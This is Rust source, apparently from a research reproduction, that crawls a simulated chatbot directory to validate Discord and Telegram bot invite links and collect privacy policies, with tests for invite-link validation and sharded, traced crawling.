    fn slow_redirector_times_out() {
        let (net, _p, cid) = setup();
        // A redirector so slow the client gives up.
        net.mount_with(
            "slow.redirector.sim",
            move |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
                Response::redirect(&format!(
                    "https://discord.sim/oauth2/authorize?client_id={cid}&scope=bot&permissions=8"
                ))
            },
            LatencyModel::Fixed { ms: 60_000 },
            FaultPlan::none(),
        );
        let mut c = client(&net);
        assert_eq!(
            validate_invite(&mut c, "https://slow.redirector.sim/inv/1"),
            InviteStatus::TimedOut
        );
    }

    #[test]
    fn healthy_redirector_resolves_valid() {
        let (net, _p, cid) = setup();
        net.mount(
            "fast.redirector.sim",
            move |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
                Response::redirect(&format!(
                "https://discord.sim/oauth2/authorize?client_id={cid}&scope=bot&permissions=2048"
            ))
            },
        );
        let mut c = client(&net);
        // The redirect chain lands on the consent page; the final URL is the
        // OAuth URL, which the client followed. For parameter decoding the
        // validator needs the final URL — exercise via the direct link shape.
        let status = validate_invite(
            &mut c,
            &format!(
                "https://discord.sim/oauth2/authorize?client_id={cid}&scope=bot&permissions=2048"
            ),
        );
        assert!(status.is_valid());
        // And the redirector link at minimum classifies as reachable-valid
        // or malformed-decode; it must NOT be Dead/TimedOut.
        let via_redirect = validate_invite(&mut c, "https://fast.redirector.sim/inv/1");
        assert!(
            !matches!(
                via_redirect,
                InviteStatus::DeadLink | InviteStatus::TimedOut
            ),
            "got {via_redirect:?}"
        );
    }

    fn telegram_setup() -> (Network, telegram_sim::TgPlatform) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(13, clock.clone());
        let p = telegram_sim::TgPlatform::new(clock);
        telegram_sim::DeepLinkGate::new(p.clone()).mount(&net);
        (net, p)
    }

    #[test]
    fn telegram_deep_link_decodes_rights_and_privacy() {
        let (net, p) = telegram_setup();
        p.register_bot(
            "modbot",
            TgRights::DELETE_MESSAGES | TgRights::BAN_USERS,
            false,
        )
        .unwrap();
        let mut c = client(&net);
        let link = telegram_sim::deep_link("modbot", TgRights::DELETE_MESSAGES);
        let status = validate_invite(&mut c, &link);
        match &status {
            InviteStatus::ValidTelegram {
                rights,
                privacy_mode,
            } => {
                assert!(rights.contains(TgRights::DELETE_MESSAGES | TgRights::BAN_USERS));
                assert!(!privacy_mode);
            }
            other => panic!("expected valid telegram, got {other:?}"),
        }
        assert!(status.is_valid());
        let names = status.permission_names();
        assert!(names.contains(&"delete messages"));
        assert!(names.contains(&PRIVACY_OFF_NAME));
    }

    #[test]
    fn telegram_privacy_on_omits_read_all_name() {
        let (net, p) = telegram_setup();
        p.register_bot("quietbot", TgRights::NONE, true).unwrap();
        let mut c = client(&net);
        let status = validate_invite(&mut c, &telegram_sim::deep_link("quietbot", TgRights::NONE));
        assert!(status.is_valid());
        assert!(status.permission_names().is_empty());
    }

    #[test]
    fn telegram_deleted_bot_is_removed_and_bad_link_malformed() {
        let (net, _p) = telegram_setup();
        let mut c = client(&net);
        assert_eq!(
            validate_invite(&mut c, &telegram_sim::deep_link("ghostbot", TgRights::NONE)),
            InviteStatus::Removed
        );
        assert_eq!(
            validate_invite(&mut c, "https://t.sim/"),
            InviteStatus::MalformedLink
        );
    }
}
