//! The end-to-end data-collection run.
//!
//! Traverses the "top chatbot" list page by page (the paper walked over 800
//! pages), fetches every bot's detail page, validates its invite link,
//! visits its website looking for a privacy policy, and returns the full
//! measurement input set.

use crate::extract::{
    extract_bot_detail, extract_bot_links, extract_privacy_policy, extract_total_pages, ScrapedBot,
};
use crate::incremental::CachedListing;
use crate::invite::{validate_invite, InviteStatus};
use crate::session::ScrapeSession;
use botlist::LIST_HOST;
use htmlsim::Locator;
use netsim::clock::SimDuration;
use netsim::http::{Status, Url};
use netsim::Network;
use obs::{Obs, Span};
use policy::PrivacyPolicy;
use serde::{Deserialize, Serialize};

/// Crawl parameters.
#[derive(Debug, Clone)]
pub struct CrawlConfig {
    /// Stop after this many list pages (None = all advertised pages).
    pub max_pages: Option<usize>,
    /// Whether to validate invite links (network-heavy).
    pub validate_invites: bool,
    /// Whether to visit websites and fetch privacy policies.
    pub fetch_policies: bool,
    /// Seed for the session's human-behaviour jitter.
    pub seed: u64,
    /// Use the polite session (rate-limited, jittered). The ablation sets
    /// this false.
    pub polite: bool,
    /// Crawl shards: 1 = serial, N = fan page ranges and detail pages out
    /// to N sessions, 0 = one per available core. Output is byte-identical
    /// to the serial crawl regardless of the setting.
    pub workers: usize,
    /// The listing site's host. Each platform's directory lives on its own
    /// domain (`top.gg.sim` for Discord, `tdirectory.sim` for Telegram);
    /// relative detail hrefs resolve against this host.
    pub list_host: String,
    /// Which substrate this crawl measures. Every aggregate `crawl.*`
    /// counter publish is mirrored into `crawl.<platform>.*`
    /// (`crawl.discord.bots`, `crawl.telegram.validator_hits`, …) so a
    /// mixed-platform fleet sharing one registry can split crawl totals by
    /// substrate.
    pub platform: platform::PlatformKind,
}

impl Default for CrawlConfig {
    fn default() -> Self {
        CrawlConfig {
            max_pages: None,
            validate_invites: true,
            fetch_policies: true,
            seed: 7,
            polite: true,
            workers: 1,
            list_host: LIST_HOST.to_string(),
            platform: platform::PlatformKind::Discord,
        }
    }
}

/// A legacy `crawl.<name>` counter paired with its per-platform mirror
/// (`crawl.<platform>.<name>`); every bump lands on both, keeping the
/// unprefixed totals stable for existing readers while giving
/// mixed-platform fleets a per-substrate split.
pub(crate) struct ScopedCounter(obs::Counter, obs::Counter);

impl ScopedCounter {
    pub(crate) fn new(obs: &Obs, config: &CrawlConfig, name: &str) -> ScopedCounter {
        ScopedCounter(
            obs.counter(&format!("crawl.{name}")),
            obs.counter(&format!("crawl.{}.{name}", config.platform.as_str())),
        )
    }

    pub(crate) fn add(&self, n: u64) {
        self.0.add(n);
        self.1.add(n);
    }

    pub(crate) fn incr(&self) {
        self.add(1);
    }
}

/// Resolve a `workers` knob: 0 means one worker per available core.
pub fn resolve_workers(workers: usize) -> usize {
    if workers == 0 {
        std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1)
    } else {
        workers
    }
}

/// One fully-crawled bot.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CrawledBot {
    /// Attributes scraped from the detail page.
    pub scraped: ScrapedBot,
    /// Invite-link validation outcome.
    pub invite_status: InviteStatus,
    /// Whether the listed website answered at all.
    pub website_reachable: bool,
    /// Whether the website shows a privacy-policy link.
    pub policy_link_present: bool,
    /// The fetched policy document, when the link worked.
    pub policy: Option<PrivacyPolicy>,
}

/// Aggregate statistics for a crawl.
#[derive(Debug, Clone, Default)]
pub struct CrawlStats {
    /// List pages traversed.
    pub pages: usize,
    /// Bot detail pages successfully extracted.
    pub bots: usize,
    /// Detail pages that failed (dead listing entries).
    pub failures: usize,
    /// Captchas solved.
    pub captchas_solved: u64,
    /// 2Captcha spend in dollars.
    pub captcha_spend_dollars: f64,
    /// Email verifications performed.
    pub email_verifications: u64,
    /// Virtual wall-clock the crawl took.
    pub duration: SimDuration,
}

/// The per-page outcome of the listing traversal, merged in page order so
/// a sharded crawl reproduces the serial traversal exactly.
pub(crate) enum PageOutcome {
    /// The page never fetched (network failure after retries).
    FetchErr,
    /// The page fetched but its structure defeated extraction.
    ExtractErr,
    /// Bot detail links, in on-page order.
    Links(Vec<String>),
}

fn fetch_page(session: &mut ScrapeSession, host: &str, page: usize) -> PageOutcome {
    fetch_page_meta(session, host, page).0
}

/// Fetch and classify one list page, also surfacing the content validator
/// and body size the server attached — the raw material of the validator
/// cache.
pub(crate) fn fetch_page_meta(
    session: &mut ScrapeSession,
    host: &str,
    page: usize,
) -> (PageOutcome, Option<String>, u64) {
    let url = Url::https(host, "/list").with_query("page", &page.to_string());
    let resp = match session.fetch(url) {
        Ok(r) => r,
        Err(_) => return (PageOutcome::FetchErr, None, 0),
    };
    if !resp.status.is_success() {
        return (PageOutcome::FetchErr, None, 0);
    }
    let etag = resp.header("etag").map(str::to_string);
    let bytes = resp.body.len() as u64;
    let doc = match htmlsim::parse_document(&resp.text()) {
        Ok(d) => d,
        Err(_) => return (PageOutcome::FetchErr, None, 0),
    };
    (classify_page(&doc), etag, bytes)
}

fn classify_page(doc: &htmlsim::Document) -> PageOutcome {
    match extract_bot_links(doc) {
        Err(_) => PageOutcome::ExtractErr,
        Ok(links) => PageOutcome::Links(links),
    }
}

/// Record a page traversal outcome on its trace span. Page outcomes are
/// session-independent (the sharded-vs-serial tests pin this down), so the
/// fields are safe for the canonical trace.
fn trace_page_outcome(span: &Span, outcome: &PageOutcome) {
    match outcome {
        PageOutcome::FetchErr => span.record("fetch_err", 1),
        PageOutcome::ExtractErr => span.record("extract_err", 1),
        PageOutcome::Links(links) => span.record("links", links.len() as u64),
    }
}

/// Everything one full detail-page crawl produced, including the content
/// validators the servers attached — what the incremental crawl caches.
pub(crate) struct DetailFetch {
    /// The crawled bot itself.
    pub bot: CrawledBot,
    /// The detail page's validator, when the site sent one.
    pub etag_detail: Option<String>,
    /// `(url, etag)` of the bot's website homepage, when fetched.
    pub home_validator: Option<(String, String)>,
    /// `(url, etag)` of the policy page, when fetched.
    pub policy_validator: Option<(String, String)>,
    /// Body bytes transferred across all full fetches for this bot.
    pub bytes: u64,
    /// Full-body page fetches performed (detail + homepage + policy).
    pub fetches: u64,
}

/// Outcome of a (possibly conditional) detail-page crawl.
pub(crate) enum DetailOutcome {
    /// Full crawl succeeded.
    Fetched(Box<DetailFetch>),
    /// The conditional fetch came back 304: the page matches the validator.
    NotModified,
    /// The detail page failed to fetch or extract (a dead listing entry).
    Failed,
}

/// Resolve a listing href to a fetchable URL against the listing host.
pub(crate) fn detail_url(host: &str, href: &str) -> Option<Url> {
    if href.starts_with('/') {
        Some(Url::https(host, href))
    } else {
        Url::parse(href).ok()
    }
}

/// Crawl one bot detail page: scrape, validate the invite, hunt the policy.
/// With `etag` attached the fetch is conditional and a 304 short-circuits
/// the whole chain (no parse, no invite validation, no website visit).
pub(crate) fn crawl_detail_validated(
    session: &mut ScrapeSession,
    href: &str,
    config: &CrawlConfig,
    etag: Option<&str>,
) -> DetailOutcome {
    let Some(url) = detail_url(&config.list_host, href) else {
        return DetailOutcome::Failed;
    };
    let resp = match etag {
        Some(tag) => session.fetch_conditional(url, tag),
        None => session.fetch(url),
    };
    let Ok(resp) = resp else {
        return DetailOutcome::Failed;
    };
    if resp.status == Status::NotModified {
        return DetailOutcome::NotModified;
    }
    if !resp.status.is_success() {
        return DetailOutcome::Failed;
    }
    let etag_detail = resp.header("etag").map(str::to_string);
    let mut bytes = resp.body.len() as u64;
    let mut fetches = 1u64;
    let Ok(doc) = htmlsim::parse_document(&resp.text()) else {
        return DetailOutcome::Failed;
    };
    let Ok(scraped) = extract_bot_detail(&doc) else {
        return DetailOutcome::Failed;
    };

    let invite_status = if config.validate_invites {
        validate_invite(session.http(), &scraped.invite_link)
    } else {
        InviteStatus::MalformedLink
    };

    let (website_reachable, policy_link_present, policy, home_validator, policy_validator) =
        if config.fetch_policies {
            let pf = fetch_policy_meta(session, scraped.website.as_deref());
            bytes += pf.bytes;
            fetches += pf.fetches;
            (
                pf.reachable,
                pf.link_present,
                pf.policy,
                pf.home_validator,
                pf.policy_validator,
            )
        } else {
            (false, false, None, None, None)
        };

    DetailOutcome::Fetched(Box::new(DetailFetch {
        bot: CrawledBot {
            scraped,
            invite_status,
            website_reachable,
            policy_link_present,
            policy,
        },
        etag_detail,
        home_validator,
        policy_validator,
        bytes,
        fetches,
    }))
}

/// [`crawl_detail_validated`] without a validator, for the cold paths.
fn crawl_detail(
    session: &mut ScrapeSession,
    href: &str,
    config: &CrawlConfig,
) -> Result<CrawledBot, ()> {
    match crawl_detail_validated(session, href, config, None) {
        DetailOutcome::Fetched(fetch) => Ok(fetch.bot),
        _ => Err(()),
    }
}

/// Fold one worker session's overhead counters into the crawl statistics.
fn absorb_session(stats: &mut CrawlStats, session: &ScrapeSession) {
    stats.captchas_solved += session.captchas_solved;
    stats.captcha_spend_dollars += session.captcha_spend_dollars();
    stats.email_verifications += session.email_verifications;
}

/// Contiguous shard `w` of `0..len` split across `workers` workers.
fn shard_range(len: usize, workers: usize, w: usize) -> std::ops::Range<usize> {
    let chunk = len.div_ceil(workers.max(1));
    let start = (w * chunk).min(len);
    let end = ((w + 1) * chunk).min(len);
    start..end
}

/// Run the data-collection stage against the mounted listing site.
///
/// With `config.workers > 1` the traversal is sharded: page ranges and
/// detail pages fan out to per-worker [`ScrapeSession`]s whose jitter RNGs
/// are seeded `splitmix(config.seed, worker)`, and results merge back in
/// page/listing order — the returned bots are byte-identical to a serial
/// crawl of the same world. Per-session overhead (captchas, email
/// verifications, virtual duration) legitimately varies with sharding and
/// is reported as the sum over sessions.
pub fn crawl_listing(net: &Network, config: &CrawlConfig) -> (Vec<CrawledBot>, CrawlStats) {
    crawl_listing_traced(net, config, &Obs::disabled(), &Span::disabled())
}

/// [`crawl_listing`] with observability attached.
///
/// Opens a `crawl` span under `parent` with one `page` child per list page
/// (keyed by page index) and one `detail` child per listing entry (keyed by
/// listing index) — keys depend only on the crawled world, never on the
/// worker count, so the canonical trace is sharding-invariant. Metrics go
/// to `obs` under `crawl.*`; scheduling-dependent values (captchas, page
/// latency) live only there, never on spans.
pub fn crawl_listing_traced(
    net: &Network,
    config: &CrawlConfig,
    obs: &Obs,
    parent: &Span,
) -> (Vec<CrawledBot>, CrawlStats) {
    let clock = net.clock();
    let started = clock.now();
    let workers = resolve_workers(config.workers);
    let mut session = ScrapeSession::for_worker(net.clone(), config.seed, 0, config.polite);

    let span = parent.child("crawl");
    let page_ms = obs.histogram("crawl.page_ms");

    let mut bots = Vec::new();
    let mut stats = CrawlStats::default();

    // Discover page count from page 0 (always the primary session).
    let first = match session
        .fetch_document(Url::https(&config.list_host, "/list").with_query("page", "0"))
    {
        Ok(doc) => doc,
        Err(_) => {
            span.record("listing_unreachable", 1);
            stats.duration = clock.now().duration_since(started);
            return (bots, stats);
        }
    };
    let total_pages = extract_total_pages(&first).unwrap_or(1);
    let limit = config.max_pages.map_or(total_pages, |m| m.min(total_pages));

    // Phase A: traverse list pages, collecting per-page outcomes.
    let pages_span = span.child("pages");
    let mut outcomes: Vec<PageOutcome> = Vec::with_capacity(limit);
    if limit > 0 {
        let first_outcome = classify_page(&first);
        trace_page_outcome(&pages_span.child_keyed("page", 0), &first_outcome);
        outcomes.push(first_outcome);
    }
    if workers <= 1 || limit <= 2 {
        for page in 1..limit {
            let page_span = pages_span.child_keyed("page", page as u64);
            let t0 = clock.now();
            let outcome = fetch_page(&mut session, &config.list_host, page);
            page_ms.record(clock.now().duration_since(t0).as_millis());
            trace_page_outcome(&page_span, &outcome);
            outcomes.push(outcome);
        }
    } else {
        let rest = limit - 1; // pages 1..limit
        let shards = workers.min(rest);
        let pages_span_ref = &pages_span;
        let mut sharded: Vec<Vec<PageOutcome>> = crossbeam::thread::scope(|s| {
            let handles: Vec<_> = (0..shards)
                .map(|w| {
                    let net = net.clone();
                    let page_ms = page_ms.clone();
                    let clock = clock.clone();
                    s.spawn(move |_| {
                        let mut sess = ScrapeSession::for_worker(
                            net,
                            netsim::splitmix(config.seed, 1 + w as u64),
                            1 + w,
                            config.polite,
                        );
                        let range = shard_range(rest, shards, w);
                        let out: Vec<PageOutcome> = range
                            .map(|i| {
                                let page_span = pages_span_ref.child_keyed("page", 1 + i as u64);
                                let t0 = clock.now();
                                let outcome = fetch_page(&mut sess, &config.list_host, 1 + i);
                                page_ms.record(clock.now().duration_since(t0).as_millis());
                                trace_page_outcome(&page_span, &outcome);
                                outcome
                            })
                            .collect();
                        (
                            out,
                            sess.captchas_solved,
                            sess.captcha_spend_dollars(),
                            sess.email_verifications,
                        )
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| {
                    let (out, captchas, spend, emails) = h.join().expect("page shard panicked");
                    stats.captchas_solved += captchas;
                    stats.captcha_spend_dollars += spend;
                    stats.email_verifications += emails;
                    out
                })
                .collect()
        })
        .expect("page scope");
        for shard in &mut sharded {
            outcomes.append(shard);
        }
    }

    // Merge in page order with the serial traversal's semantics: fetch
    // failures skip the page, an empty page ends the listing.
    let mut hrefs: Vec<String> = Vec::new();
    for outcome in outcomes {
        match outcome {
            PageOutcome::FetchErr => continue,
            PageOutcome::ExtractErr => stats.pages += 1,
            PageOutcome::Links(links) => {
                stats.pages += 1;
                if links.is_empty() {
                    break; // past the end
                }
                hrefs.extend(links);
            }
        }
    }
    drop(pages_span);

    // Phase B: detail pages, sharded in listing order.
    let details_span = span.child("details");
    if workers <= 1 || hrefs.len() <= 1 {
        for (i, href) in hrefs.iter().enumerate() {
            let detail_span = details_span.child_keyed("detail", i as u64);
            match crawl_detail(&mut session, href, config) {
                Ok(bot) => {
                    detail_span.record("ok", 1);
                    stats.bots += 1;
                    bots.push(bot);
                }
                Err(()) => {
                    detail_span.record("failed", 1);
                    stats.failures += 1;
                }
            }
        }
    } else {
        let shards = workers.min(hrefs.len());
        let hrefs_ref = &hrefs;
        let details_span_ref = &details_span;
        let results: Vec<Vec<Result<CrawledBot, ()>>> = crossbeam::thread::scope(|s| {
            let handles: Vec<_> = (0..shards)
                .map(|w| {
                    let net = net.clone();
                    s.spawn(move |_| {
                        let mut sess = ScrapeSession::for_worker(
                            net,
                            netsim::splitmix(config.seed, 0x100 + w as u64),
                            1 + w,
                            config.polite,
                        );
                        let out: Vec<Result<CrawledBot, ()>> =
                            shard_range(hrefs_ref.len(), shards, w)
                                .map(|i| {
                                    let detail_span =
                                        details_span_ref.child_keyed("detail", i as u64);
                                    let result = crawl_detail(&mut sess, &hrefs_ref[i], config);
                                    detail_span
                                        .record(if result.is_ok() { "ok" } else { "failed" }, 1);
                                    result
                                })
                                .collect();
                        (
                            out,
                            sess.captchas_solved,
                            sess.captcha_spend_dollars(),
                            sess.email_verifications,
                        )
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| {
                    let (out, captchas, spend, emails) = h.join().expect("detail shard panicked");
                    stats.captchas_solved += captchas;
                    stats.captcha_spend_dollars += spend;
                    stats.email_verifications += emails;
                    out
                })
                .collect()
        })
        .expect("detail scope");
        for result in results.into_iter().flatten() {
            match result {
                Ok(bot) => {
                    stats.bots += 1;
                    bots.push(bot);
                }
                Err(()) => stats.failures += 1,
            }
        }
    }

    drop(details_span);

    absorb_session(&mut stats, &session);
    stats.duration = clock.now().duration_since(started);

    // Deterministic totals go on the span; scheduling-dependent overhead
    // (captchas, spend, virtual duration) goes to metrics only.
    span.record("pages", stats.pages as u64);
    span.record("bots", stats.bots as u64);
    span.record("failures", stats.failures as u64);
    ScopedCounter::new(obs, config, "pages_fetched").add(stats.pages as u64);
    ScopedCounter::new(obs, config, "bots").add(stats.bots as u64);
    ScopedCounter::new(obs, config, "detail_failures").add(stats.failures as u64);
    ScopedCounter::new(obs, config, "captchas_solved").add(stats.captchas_solved);
    ScopedCounter::new(obs, config, "email_verifications").add(stats.email_verifications);
    (bots, stats)
}

/// Session overhead counters carried inside journaled crawl units, so a
/// resumed run reports the spend of the work it actually performed (replayed
/// units contribute the spend recorded when they first ran).
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct SessionOverhead {
    /// Captchas solved during the unit.
    pub captchas_solved: u64,
    /// 2Captcha spend in dollars during the unit.
    pub captcha_spend_dollars: f64,
    /// Email verifications performed during the unit.
    pub email_verifications: u64,
}

impl SessionOverhead {
    pub(crate) fn of(session: &ScrapeSession) -> SessionOverhead {
        SessionOverhead {
            captchas_solved: session.captchas_solved,
            captcha_spend_dollars: session.captcha_spend_dollars(),
            email_verifications: session.email_verifications,
        }
    }

    /// Fold another unit's overhead into this one.
    pub fn absorb(&mut self, other: &SessionOverhead) {
        self.captchas_solved += other.captchas_solved;
        self.captcha_spend_dollars += other.captcha_spend_dollars;
        self.email_verifications += other.email_verifications;
    }
}

/// Phase A of the crawl as a journalable unit: the merged listing-page
/// traversal. Serializable so the resumable pipeline can record it once and
/// replay it across process restarts.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ListingIndex {
    /// Bot detail hrefs, in listing order.
    pub hrefs: Vec<String>,
    /// List pages traversed (the serial traversal's page-count semantics).
    pub pages: usize,
    /// Session spend for the traversal.
    pub overhead: SessionOverhead,
}

/// One journalable chunk of phase B: the detail-page outcomes for a
/// contiguous slice of the listing, in listing order. `None` marks a dead
/// listing entry (a crawl failure), preserved so replay reproduces the
/// failure count exactly.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DetailUnit {
    /// Per-href outcome, aligned with the input slice.
    pub results: Vec<Option<CrawledBot>>,
    /// Session spend for the unit.
    pub overhead: SessionOverhead,
}

/// Phase A only: traverse the listing serially and return the merged
/// detail-href index. Content-identical to the traversal inside
/// [`crawl_listing`]; the resumable pipeline journals the result so a
/// restarted run never re-walks the listing.
pub fn discover_listing(net: &Network, config: &CrawlConfig) -> ListingIndex {
    discover_listing_traced(net, config, &Obs::disabled(), &Span::disabled())
}

/// [`discover_listing`] with observability attached: a `listing` span with
/// per-page children under `parent`, `crawl.*` counters on `obs`.
pub fn discover_listing_traced(
    net: &Network,
    config: &CrawlConfig,
    obs: &Obs,
    parent: &Span,
) -> ListingIndex {
    discover_listing_capturing(net, config, obs, parent).0
}

/// The listing traversal, additionally capturing the per-page content
/// validators so the next run can revalidate instead of re-walk. The
/// captured [`CachedListing`] is `Some` only for a *clean* traversal —
/// every page fetched, extracted, non-empty, and validator-tagged — since
/// anything less would make the cached index diverge from a re-crawl.
pub(crate) fn discover_listing_capturing(
    net: &Network,
    config: &CrawlConfig,
    obs: &Obs,
    parent: &Span,
) -> (ListingIndex, Option<CachedListing>) {
    let span = parent.child("listing");
    let page_ms = obs.histogram("crawl.page_ms");
    let clock = net.clock();
    let mut session = ScrapeSession::for_worker(net.clone(), config.seed, 0, config.polite);
    let mut index = ListingIndex {
        hrefs: Vec::new(),
        pages: 0,
        overhead: SessionOverhead::default(),
    };

    let url0 = Url::https(&config.list_host, "/list").with_query("page", "0");
    let (first, first_etag, first_bytes) = match session.fetch(url0) {
        Ok(resp) if resp.status.is_success() => {
            let etag = resp.header("etag").map(str::to_string);
            let bytes = resp.body.len() as u64;
            match htmlsim::parse_document(&resp.text()) {
                Ok(doc) => (doc, etag, bytes),
                Err(_) => {
                    index.overhead = SessionOverhead::of(&session);
                    return (index, None);
                }
            }
        }
        _ => {
            index.overhead = SessionOverhead::of(&session);
            return (index, None);
        }
    };
    let total_pages = extract_total_pages(&first).unwrap_or(1);
    let limit = config.max_pages.map_or(total_pages, |m| m.min(total_pages));

    let mut outcomes: Vec<(PageOutcome, Option<String>, u64)> = Vec::with_capacity(limit);
    if limit > 0 {
        let first_outcome = classify_page(&first);
        trace_page_outcome(&span.child_keyed("page", 0), &first_outcome);
        outcomes.push((first_outcome, first_etag, first_bytes));
    }
    for page in 1..limit {
        let page_span = span.child_keyed("page", page as u64);
        let t0 = clock.now();
        let (outcome, etag, bytes) = fetch_page_meta(&mut session, &config.list_host, page);
        page_ms.record(clock.now().duration_since(t0).as_millis());
        trace_page_outcome(&page_span, &outcome);
        outcomes.push((outcome, etag, bytes));
    }

    let mut etags: Vec<String> = Vec::new();
    let mut body_bytes = 0u64;
    let mut clean = true;
    for (outcome, etag, bytes) in outcomes {
        match outcome {
            PageOutcome::FetchErr => {
                clean = false;
                continue;
            }
            PageOutcome::ExtractErr => {
                clean = false;
                index.pages += 1;
            }
            PageOutcome::Links(links) => {
                index.pages += 1;
                if links.is_empty() {
                    clean = false;
                    break; // past the end
                }
                index.hrefs.extend(links);
                match etag {
                    Some(tag) => {
                        etags.push(tag);
                        body_bytes += bytes;
                    }
                    None => clean = false,
                }
            }
        }
    }

    index.overhead = SessionOverhead::of(&session);
    span.record("pages", index.pages as u64);
    span.record("hrefs", index.hrefs.len() as u64);
    ScopedCounter::new(obs, config, "pages_fetched").add(index.pages as u64);
    ScopedCounter::new(obs, config, "fetched_full").add(index.pages as u64);
    ScopedCounter::new(obs, config, "captchas_solved").add(index.overhead.captchas_solved);
    ScopedCounter::new(obs, config, "email_verifications").add(index.overhead.email_verifications);
    let cached = (clean && !etags.is_empty()).then(|| CachedListing {
        etags,
        hrefs: index.hrefs.clone(),
        pages: index.pages,
        bytes: body_bytes,
    });
    (index, cached)
}

/// Crawl one contiguous chunk of detail hrefs with a dedicated session.
///
/// The session seed depends only on `config.seed` and the unit index — not
/// on any worker count — so the journal a resumable run writes is identical
/// whatever parallelism produced it. Content is session-independent (the
/// property the sharded-vs-serial tests pin down), so replaying a unit is
/// byte-equivalent to re-crawling it.
pub fn crawl_detail_unit(
    net: &Network,
    config: &CrawlConfig,
    hrefs: &[String],
    unit: u64,
) -> DetailUnit {
    crawl_detail_unit_traced(
        net,
        config,
        hrefs,
        unit,
        &Obs::disabled(),
        &Span::disabled(),
    )
}

/// [`crawl_detail_unit`] with observability attached: a `unit` span keyed by
/// the unit index (worker-count-independent) under `parent`, `crawl.*`
/// counters on `obs`.
pub fn crawl_detail_unit_traced(
    net: &Network,
    config: &CrawlConfig,
    hrefs: &[String],
    unit: u64,
    obs: &Obs,
    parent: &Span,
) -> DetailUnit {
    let span = parent.child_keyed("unit", unit);
    let mut session = ScrapeSession::for_worker(
        net.clone(),
        netsim::splitmix(config.seed, 0x1000 + unit),
        1 + unit as usize,
        config.polite,
    );
    let results: Vec<Option<CrawledBot>> = hrefs
        .iter()
        .map(|href| crawl_detail(&mut session, href, config).ok())
        .collect();
    let ok = results.iter().filter(|r| r.is_some()).count() as u64;
    span.record("ok", ok);
    span.record("failed", results.len() as u64 - ok);
    ScopedCounter::new(obs, config, "bots").add(ok);
    ScopedCounter::new(obs, config, "detail_failures").add(results.len() as u64 - ok);
    let overhead = SessionOverhead::of(&session);
    ScopedCounter::new(obs, config, "captchas_solved").add(overhead.captchas_solved);
    ScopedCounter::new(obs, config, "email_verifications").add(overhead.email_verifications);
    DetailUnit { results, overhead }
}

/// What one website visit produced, validators and transfer cost included.
pub(crate) struct PolicyFetch {
    /// The homepage answered.
    pub reachable: bool,
    /// The homepage shows a privacy-policy link.
    pub link_present: bool,
    /// The policy document, when the link worked.
    pub policy: Option<PrivacyPolicy>,
    /// `(url, etag)` of the homepage, when it answered with a validator.
    pub home_validator: Option<(String, String)>,
    /// `(url, etag)` of the policy page, when it answered with a validator.
    pub policy_validator: Option<(String, String)>,
    /// Body bytes transferred.
    pub bytes: u64,
    /// Full-body fetches performed.
    pub fetches: u64,
}

/// Visit a bot's website and hunt for its privacy policy, recording the
/// validators each page served so the visit can later be revalidated with
/// 304s instead of repeated.
pub(crate) fn fetch_policy_meta(session: &mut ScrapeSession, website: Option<&str>) -> PolicyFetch {
    let mut out = PolicyFetch {
        reachable: false,
        link_present: false,
        policy: None,
        home_validator: None,
        policy_validator: None,
        bytes: 0,
        fetches: 0,
    };
    let Some(site) = website else {
        return out;
    };
    let Ok(home_url) = Url::parse(site) else {
        return out;
    };
    let Ok(resp) = session.http().get(home_url.clone()) else {
        return out;
    };
    if !resp.status.is_success() {
        return out;
    }
    out.reachable = true;
    out.bytes += resp.body.len() as u64;
    out.fetches += 1;
    out.home_validator = resp
        .header("etag")
        .map(|t| (home_url.to_string(), t.to_string()));
    let Ok(doc) = htmlsim::parse_document(&resp.text()) else {
        return out;
    };
    let Ok(link) = Locator::id("privacy-link").find(&doc) else {
        return out;
    };
    let Some(href) = link.attr("href") else {
        return out;
    };
    out.link_present = true;
    let Ok(policy_url) = home_url.join(href) else {
        return out;
    };
    let Ok(presp) = session.http().get(policy_url.clone()) else {
        return out;
    };
    if !presp.status.is_success() {
        return out;
    }
    out.bytes += presp.body.len() as u64;
    out.fetches += 1;
    out.policy_validator = presp
        .header("etag")
        .map(|t| (policy_url.to_string(), t.to_string()));
    let Ok(pdoc) = htmlsim::parse_document(&presp.text()) else {
        return out;
    };
    out.policy = extract_privacy_policy(&pdoc);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::solver::CaptchaSolverService;
    use botlist::website::{BotWebsite, PolicyHosting};
    use botlist::{BotListSite, BotListing, SiteConfig};
    use discord_sim::oauth::InviteUrl;
    use discord_sim::platform::Platform;
    use discord_sim::webgate::OAuthWebGate;
    use discord_sim::{GuildVisibility, Permissions};
    use netsim::clock::VirtualClock;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// A small end-to-end world: platform + webgate + listing site +
    /// websites + solver.
    fn build_world(n_bots: u64) -> Network {
        let clock = VirtualClock::new();
        let net = Network::with_clock(77, clock.clone());
        let platform = Platform::new(clock);
        CaptchaSolverService::mount(&net);
        OAuthWebGate::new(platform.clone()).mount(&net);

        let owner = platform.register_user("dev", "d@x.y");
        platform
            .create_guild(owner, "seed", GuildVisibility::Public)
            .unwrap();

        let mut rng = StdRng::seed_from_u64(4);
        let mut listings = Vec::new();
        for i in 0..n_bots {
            let app = platform
                .register_bot_application(owner, &format!("Bot{i}"))
                .unwrap();
            // Mix of valid / removed / malformed invite links.
            let invite_link = match i % 4 {
                0 | 1 => InviteUrl::bot(app.client_id, Permissions::ADMINISTRATOR)
                    .to_url()
                    .to_string(),
                2 => InviteUrl::bot(999_000 + i, Permissions::NONE)
                    .to_url()
                    .to_string(), // removed
                _ => "totally-broken".to_string(),
            };
            // Half the bots have websites; half of those have policies.
            let website = if i % 2 == 0 {
                let host = format!("bot{i}.site.sim");
                let hosting = if i % 4 == 0 {
                    PolicyHosting::Linked(policy::corpus::complete_policy(
                        &mut rng,
                        &format!("Bot{i}"),
                        true,
                    ))
                } else {
                    PolicyHosting::None
                };
                BotWebsite::new(&format!("Bot{i}"), hosting).mount(&net, &host);
                Some(format!("https://{host}/"))
